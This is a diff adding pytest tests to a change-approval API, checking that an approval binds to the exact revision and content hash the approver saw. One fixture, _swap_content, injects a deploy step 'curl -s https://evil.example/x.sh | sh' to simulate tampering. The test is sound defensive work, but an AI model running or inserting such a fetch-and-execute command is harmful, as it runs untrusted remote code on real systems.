@@ -1,5 +1,6 @@
 """Approving and rejecting through the API, with separation of duties enforced."""
 
+import json
 from datetime import timedelta
 from typing import Any
 
@@ -14,7 +15,7 @@ from approvals.services import authority_grant, authority_revoke, retrospectives
 from audit.models import AuditEvent
 from changelogs.models import Changelog
 from tests.conftest import Cast
-from tests.factories import UserFactory, changelog_make
+from tests.factories import UserFactory, changelog_make, seen_of
 
 PASSWORD = "a-test-password-1234"
 
@@ -31,7 +32,9 @@ def decide(
     password: str = PASSWORD,
 ) -> Any:
     return client.post(
-        approvals_url(changelog), {"decision": decision, "reason": reason, "password": password}, format="json"
+        approvals_url(changelog),
+        {"decision": decision, "reason": reason, "password": password, **seen_of(changelog)},
+        format="json",
     )
 
 
@@ -136,7 +139,12 @@ def test_deciding_twice_is_a_conflict(cast: Cast, submitted: Changelog) -> None:
 def test_a_draft_cannot_be_approved(cast: Cast) -> None:
     draft = changelog_make(service=cast.payments_api)
 
-    response = decide(cast.session(cast.approver), draft)
+    # A draft has no content hash yet; whatever hash is sent, nothing is recorded.
+    response = cast.session(cast.approver).post(
+        approvals_url(draft),
+        {"decision": "approved", "password": PASSWORD, "revision": 1, "content_hash": "0" * 64},
+        format="json",
+    )
 
     assert response.status_code == 409
     assert response.json()["code"] == "changelog_not_submitted"
@@ -301,3 +309,92 @@ def test_the_beat_task_marks_overdue_retrospectives(cast: Cast) -> None:
         assert retrospectives_overdue.apply().get() == 1
 
     assert Retrospective.objects.get(changelog=hotfix).status == "overdue"
+
+
+# --- An approval signs what was shown (issue: four eyes on exactly these bytes) -----------------
+
+
+def _swap_content(cast: Cast, changelog: Changelog) -> None:
+    """The pipeline, between the approver opening the change and confirming: another digest,
+    one more deploy step, and submitted again."""
+    pipeline = cast.pipeline.client()
+    content = changelog.current_revision.content  # type: ignore[union-attr]
+    swapped = pipeline.patch(
+        f"/api/v1/changelogs/{changelog.id}/",
+        {
+            "artifact": {**content["artifact"], "digest": "sha256:" + "ee" * 32},
+            "deploy_steps": [
+                *content["deploy_steps"],
+                {"description": "Fetch tooling", "command": "curl -s https://evil.example/x.sh | sh"},
+            ],
+        },
+        format="json",
+    )
+    assert swapped.status_code == 200, swapped.json()
+    assert pipeline.post(f"/api/v1/changelogs/{changelog.id}/submit").status_code == 200
+
+
+def test_a_decision_on_content_that_changed_meanwhile_is_refused_and_records_nothing(
+    cast: Cast, submitted: Changelog
+) -> None:
+    seen = seen_of(submitted)  # what the approver was shown: revision 1
+    _swap_content(cast, submitted)
+
+    response = cast.session(cast.approver).post(
+        approvals_url(submitted),
+        {"decision": "approved", "reason": "Looks right", "password": PASSWORD, **seen},
+        format="json",
+    )
+
+    assert response.status_code == 409
+    body = response.json()
+    assert body["code"] == "content_changed"
+    assert body["fields"]["revision"][0]["message"] == "The current revision is 2."
+    assert not submitted.approvals.exists()
+    submitted.refresh_from_db()
+    assert submitted.status == "submitted"
+    [refusal] = AuditEvent.objects.filter(action="approval:refused", target_id=str(submitted.pk))
+    assert refusal.actor == "user:approver"
+    assert json.loads(refusal.data)["code"] == "content_changed"
+    assert json.loads(refusal.data)["content_hash"] == seen["content_hash"]
+
+
+def test_replaying_an_approval_after_the_content_changed_does_not_sign_the_new_content(
+    cast: Cast, submitted: Changelog
+) -> None:
+    approver = cast.session(cast.approver)
+    body = {"decision": "approved", "reason": "Looks right", "password": PASSWORD, **seen_of(submitted)}
+    assert approver.post(approvals_url(submitted), body, format="json").status_code == 201
+    _swap_content(cast, submitted)
+
+    replayed = approver.post(approvals_url(submitted), body, format="json")
+
+    assert replayed.status_code == 409
+    assert replayed.json()["code"] == "content_changed"
+    assert list(submitted.approvals.values_list("revision__number", flat=True)) == [1]
+    state = approver.get(approvals_url(submitted)).json()
+    assert state["status"] == "pending"
+
+
+@pytest.mark.parametrize("missing", ["revision", "content_hash"])
+def test_a_decision_must_name_the_revision_and_content_hash_it_signs(
+    cast: Cast, submitted: Changelog, missing: str
+) -> None:
+    body = {"decision": "approved", "password": PASSWORD, **seen_of(submitted)}
+    del body[missing]
+
+    response = cast.session(cast.approver).post(approvals_url(submitted), body, format="json")
+
+    assert response.status_code == 400
+    assert response.json()["fields"][missing][0]["code"] == "required"
+    assert not submitted.approvals.exists()
+
+
+def test_the_content_hash_of_another_change_does_not_sign_this_one(cast: Cast, submitted: Changelog) -> None:
+    other = changelog_make(service=cast.payments_api, by=cast.requester, submitted=True, reason="Another change.")
+    body = {"decision": "approved", "password": PASSWORD, **seen_of(other), "revision": 1}
+
+    response = cast.session(cast.approver).post(approvals_url(submitted), body, format="json")
+
+    assert response.status_code == 409
+    assert response.json()["code"] == "content_changed"
